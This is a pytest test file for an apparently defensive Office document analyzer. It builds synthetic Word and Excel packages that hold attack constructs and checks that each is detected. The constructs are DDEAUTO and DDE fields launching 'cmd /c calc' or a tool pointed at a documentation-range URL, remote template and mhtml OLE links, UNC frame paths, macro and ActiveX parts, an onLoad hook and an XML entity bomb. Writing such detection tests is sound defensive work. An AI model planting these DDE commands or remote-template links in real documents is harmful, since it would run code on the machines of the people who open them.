"""Office Open XML: built here part by part, checked on real documents."""

import io
import random
import zipfile
from pathlib import Path

import pytest

from sekisho.analyzers.ooxml import analyze, is_ooxml
from sekisho.model.artifact import Artifact, Feature
from sekisho.model.errors import LimitError, MalformedError

SHARED = Path(__file__).parents[2].parent / "shared" / "data"
FIXTURES = SHARED / "fixtures" / "oletools"
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def pack(parts, macro=False):
    out = io.BytesIO()
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml" if macro else "x"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
        )
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def relationships(*entries):
    lines = [
        f'<Relationship Id="r{n}" Type="{RELATIONSHIP}/{k}" Target="{t}" {m}/>' for n, (k, t, m) in enumerate(entries)
    ]
    return f"<Relationships>{''.join(lines)}</Relationships>"


EXTERNAL = 'TargetMode="External"'


def read(data, name="a.docx"):
    features, children, error = {}, [], None
    try:
        for one in analyze(Artifact(name, data, name)):
            if isinstance(one, Feature):
                features.setdefault(one.name, []).append(one.value)
            else:
                children.append(one)
    except (MalformedError, LimitError) as raised:
        error = raised
    return features, children, error


def test_recognised():
    assert is_ooxml(Artifact("a", pack({}), "a"))
    assert not is_ooxml(Artifact("a.docx", b"PK\x03\x04plain", "a"))


def test_kind_and_properties():
    features, _, _ = read(
        pack(
            {
                "word/document.xml": "<w/>",
                "docProps/core.xml": "<c><dc:title xmlns:dc='d'>請求書</dc:title><creator>A</creator><modified>T</modified></c>",
                "docProps/app.xml": "<p><Application>Word</Application><Template>N.dotm</Template></p>",
            },
            macro=True,
        )
    )
    assert features["ooxml.kind"] == ["word"]
    assert features["ooxml.macro_enabled"] == [True]
    assert (features["ooxml.title"], features["ooxml.author"], features["ooxml.saved_at"]) == (["請求書"], ["A"], ["T"])
    assert features["ooxml.template"] == ["N.dotm"]


def test_what_is_fetched_without_a_click():
    features, _, _ = read(
        pack(
            {
                "word/_rels/settings.xml.rels": relationships(
                    ("attachedTemplate", "http://192.0.2.5/t.dotm", EXTERNAL)
                ),
                "word/_rels/document.xml.rels": relationships(
                    ("oleObject", "mhtml:http://192.0.2.6/a.html!x-usc:http://192.0.2.6/b.html", EXTERNAL),
                    ("hyperlink", "https://example.com/", EXTERNAL),
                    ("image", "media/image1.png", ""),
                    ("frame", "\\\\192.0.2.7\\share\\x", EXTERNAL),
                ),
            }
        )
    )
    assert features["ooxml.external"] == [
        "attachedTemplate: http://192.0.2.5/t.dotm",
        "oleObject: mhtml:http://192.0.2.6/a.html!x-usc:http://192.0.2.6/b.html",
        "frame: \\\\192.0.2.7\\share\\x",
    ]
    assert features["ooxml.external_template"] == ["http://192.0.2.5/t.dotm"]
    urls = {url.canonical: url.where for url in features["url"]}
    assert urls["http://192.0.2.5/t.dotm"] == "relationship"
    assert urls["https://example.com/"] == "href"
    assert any("192.0.2.6" in url for url in urls)


def test_fields_in_runs():
    runs = ["DDEAU", 'TO "tool.exe" ', '"/x http://192.0.2.8/y"']
    body = f"<w:document {W}><w:p><w:fldChar w:fldCharType='begin'/>"
    body += "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    body += "<w:fldChar w:fldCharType='end'/><w:fldSimple w:instr='DDE QUOTE 97 98 c'/></w:p></w:document>"
    features, children, _ = read(pack({"word/document.xml": body}))
    assert features["ooxml.dde"] == ['DDEAUTO "tool.exe" "/x http://192.0.2.8/y"', "DDE ab c"]
    assert [child.data for child in children] == [b"tool.exe /x http://192.0.2.8/y", b"ab c"]
    assert {child.kind for child in children} == {"cmd"}
    assert features["url"][0].canonical == "http://192.0.2.8/y"


def test_links_of_workbooks_in_xml_and_binary():
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    binary = bytes.fromhex("e802260100 03000000 63006d006400 07000000 2f006300200063006100 6c006300".replace(" ", ""))
    for name, data in (("externalLink1.xml", link), ("externalLink1.bin", binary)):
        features, (child,), _ = read(pack({f"xl/externalLinks/{name}": data}))
        assert features["ooxml.dde"] == ["cmd|/c calc"]
        assert child.data == b"cmd /c calc"


def test_what_is_carried():
    features, children, error = read(
        pack(
            {
                "word/vbaProject.bin": b"project",
                "word/odd.bin": b"also a project",
                "word/_rels/document.xml.rels": '<R><Relationship Type="http://x/vbaProject" Target="odd.bin"/></R>',
                "word/embeddings/oleObject1.bin": b"object",
                "word/embeddings/book.xlsx": b"PK",
                "word/activeX/activeX1.bin": b"control",
                "word/activeX/activeX1.xml": b"<x/>",
                "word/media/image1.png": b"png",
                "xl/printerSettings/printerSettings1.bin": b"no",
                "xl/worksheets/sheet1.bin": b"no",
                "customUI/customUI.xml": '<customUI onLoad="Start"/>',
            }
        )
    )
    assert [(child.name, child.kind, child.relation) for child in children] == [
        ("vbaProject.bin", "vba_project", "embedded"),
        ("odd.bin", "vba_project", "embedded"),
        ("word/embeddings/oleObject1.bin", "", "embedded"),
        ("word/embeddings/book.xlsx", "", "embedded"),
        ("word/activeX/activeX1.bin", "", "embedded"),
    ]
    assert features["ooxml.on_load"] == ["Start"]
    assert error is None


def test_entities_are_refused():
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><Relationships>&b;</Relationships>'
    _, _, error = read(pack({"word/_rels/document.xml.rels": bomb}))
    assert isinstance(error, MalformedError)
    assert "entity" in str(error)


def test_a_part_that_cannot_be_read_is_named():
    data = bytearray(pack({"word/embeddings/a.bin": b"x" * 500}))
    at = data.find(b"a.bin") + 5
    data[at : at + 4] = b"\xff\xff\xff\xff"
    _, (child,), error = read(bytes(data))
    assert child.unscanned
    assert isinstance(error, MalformedError)


def test_mutations_raise_nothing_unforeseen():
    generator = random.Random(4)
    whole = pack(
        {
            "word/document.xml": f"<w:document {W}><w:fldSimple w:instr='DDE a b'/></w:document>",
            "word/_rels/document.xml.rels": relationships(("frame", "http://192.0.2.1/", EXTERNAL)),
            "word/vbaProject.bin": b"x" * 300,
        }
    )
    for _ in range(300):
        data = bytearray(whole)
        for _ in range(generator.choice([1, 5, 30])):
            data[generator.randrange(len(data))] = generator.randrange(256)
        if generator.random() < 0.3:
            del data[generator.randrange(len(data)) :]
        read(bytes(data))


@pytest.mark.shared
@pytest.mark.skipif(not SHARED.exists(), reason="real data not beside the project")
@pytest.mark.parametrize(
    ("path", "feature", "expected"),
    [
        ("msodde/dde-test.docx", "ooxml.dde", 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
        ("msodde/dde-test.xlsx", "ooxml.dde", "cmd|/c calc.exe"),
        ("msodde/dde-test.xlsb", "ooxml.dde", "cmd|/c calc.exe"),
        ("oleobj/embedded-simple-2007.docx", "ooxml.embedded", "word/embeddings/oleObject1.bin"),
        ("oleobj/embedded-simple-2007.pptx", "ooxml.kind", "powerpoint"),
        ("oleobj/embedded-simple-2007.ods", "ooxml.kind", "odf"),
    ],
)
def test_real_documents(path, feature, expected):
    features, _, error = read((FIXTURES / path).read_bytes())
    assert features[feature][0] == expected
    assert error is None


@pytest.mark.shared
@pytest.mark.skipif(not SHARED.exists(), reason="real data not beside the project")
def test_real_external_links():
    for path in sorted((FIXTURES / "oleobj" / "external_link").iterdir()):
        features, _, _ = read(path.read_bytes())
        assert any("https://" in entry for entry in features["ooxml.external"]), path.name
